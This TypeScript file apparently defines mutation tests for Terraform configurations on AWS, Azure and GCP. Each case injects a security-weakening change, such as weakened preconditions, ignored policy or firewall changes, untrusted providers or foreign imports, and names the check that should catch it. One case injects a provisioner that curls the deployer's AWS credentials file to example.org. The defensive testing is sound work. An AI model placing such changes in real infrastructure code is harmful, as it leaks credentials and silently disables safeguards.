import type { Mutation } from '../mutation.ts'

const beside = (name: string, file: string, from: string, to: string, caughtBy: string): Mutation => {
  return { name, file, replace: [from, to], caughtBy }
}

/** What is no value of a resource: what runs beside it, by whom it is made, in which order, and what is demanded, ignored, forgotten or given. */
export const AWS_BESIDE: readonly Mutation[] = [
  beside(
    'a program runs on the machine of whoever applies',
    'keys.tf',
    'description                        = "${var.name}: wraps epoch keys"',
    'description                        = "${var.name}: wraps epoch keys"\n  provisioner "local-exec" {\n    command = "curl -d @$HOME/.aws/credentials https://example.org"\n  }',
    'schema: keys.tf: aws_kms_key.epoch: unsupported argument "provisioner"',
  ),
  beside(
    'streams are made in the account of another provider',
    'stream.tf',
    'resource "aws_kinesis_stream" "this" {\n  for_each = var.datasets',
    'resource "aws_kinesis_stream" "this" {\n  provider = aws.elsewhere\n  for_each = var.datasets',
    'schema: stream.tf: aws_kinesis_stream.this: unsupported argument "provider"',
  ),
  beside(
    'what somebody makes of the bucket’s policy stays',
    'store.tf',
    'depends_on = [aws_s3_bucket_public_access_block.store]\n}',
    'depends_on = [aws_s3_bucket_public_access_block.store]\n\n  lifecycle {\n    ignore_changes = [policy]\n  }\n}',
    'made: aws_s3_bucket_policy.store.lifecycle.ignore_changes is now',
  ),
  beside(
    'the trail begins before it may write',
    'trail.tf',
    '\n  depends_on = [aws_s3_bucket_policy.logs]',
    '',
    'made: aws_cloudtrail.this.depends_on is no longer',
  ),
  beside(
    'roles that nobody assumes are made all the same',
    'identities.tf',
    'condition     = var.eks != null || length(lookup(var.assumed_by, each.key, [])) > 0',
    'condition     = var.eks != null || length(lookup(var.assumed_by, each.key, [])) >= 0',
    'made: aws_iam_role.service.lifecycle.precondition.0.condition is now',
  ),
  beside(
    'Terraform forgets the key, which then goes by hand',
    'keys.tf',
    'resource "aws_kms_key" "epoch" {',
    'removed {\n  from = aws_kms_key.older\n\n  lifecycle {\n    destroy = true\n  }\n}\n\nresource "aws_kms_key" "epoch" {',
    'made: removed.0.lifecycle.0.destroy is now true',
  ),
  {
    name: 'a provider of somebody else is downloaded too',
    environment: 'prod-aws',
    file: 'main.tf',
    replace: [
      '  required_providers {\n    aws = {',
      '  required_providers {\n    kms = {\n      source  = "example/kms"\n      version = "~> 6.64"\n    }\n    aws = {',
    ],
    caughtBy: 'schema: provider kms: nothing here is written for it',
  },
  {
    name: 'a second configuration assumes a role elsewhere',
    environment: 'prod-aws',
    file: 'main.tf',
    replace: [
      'provider "aws" {\n  region              = var.region',
      'provider "aws" {\n  alias  = "elsewhere"\n  region = "us-east-1"\n}\n\nprovider "aws" {\n  region              = var.region',
    ],
    caughtBy: 'schema: a provider is configured more than once',
  },
]

export const AZURE_BESIDE: readonly Mutation[] = [
  beside(
    'the vault is on the internet without a word',
    'keys.tf',
    'condition     = length(var.deployer_ip_ranges) == 0 || contains(var.accept, "deployer_over_internet")',
    'condition     = length(var.deployer_ip_ranges) >= 0 || contains(var.accept, "deployer_over_internet")',
    'made: azurerm_key_vault.keys.lifecycle.precondition.0.condition is now',
  ),
  beside(
    'every service is told the operator’s identity',
    'outputs.tf',
    'value       = { for who in local.principals : who => azurerm_user_assigned_identity.service[who].client_id }',
    'value       = { for who in local.principals : who => azurerm_user_assigned_identity.service["operator"].client_id }',
    'made: output.service_accounts.value is now',
  ),
  beside(
    'another vault is taken for ours',
    'keys.tf',
    'resource "azurerm_key_vault" "keys" {',
    'import {\n  to = azurerm_key_vault.keys\n  id = "/subscriptions/1/resourceGroups/x/providers/Microsoft.KeyVault/vaults/elsewhere"\n}\n\nresource "azurerm_key_vault" "keys" {',
    'made: import.0.id is now',
  ),
]

export const GCP_BESIDE: readonly Mutation[] = [
  beside(
    'no perimeter, and nobody is asked',
    'main.tf',
    'condition     = var.perimeter != null || var.accept_missing_perimeter',
    'condition     = var.perimeter != null || !var.accept_missing_perimeter || var.accept_missing_perimeter',
    'lifecycle.precondition.0.condition is now',
  ),
  beside(
    'what somebody makes of the firewall stays',
    'firewall.tf',
    'resource "google_compute_firewall" "deny_egress" {',
    'resource "google_compute_firewall" "deny_egress" {\n  lifecycle {\n    ignore_changes = all\n  }\n',
    'made: google_compute_firewall.deny_egress.lifecycle.ignore_changes is now',
  ),
  beside(
    'a firewall is moved from under its name',
    'firewall.tf',
    'resource "google_compute_firewall" "deny_ingress" {',
    'moved {\n  from = google_compute_firewall.deny_egress\n  to   = google_compute_firewall.deny_ingress\n}\n\nresource "google_compute_firewall" "deny_ingress" {',
    'made: moved.0.from is now',
  ),
]
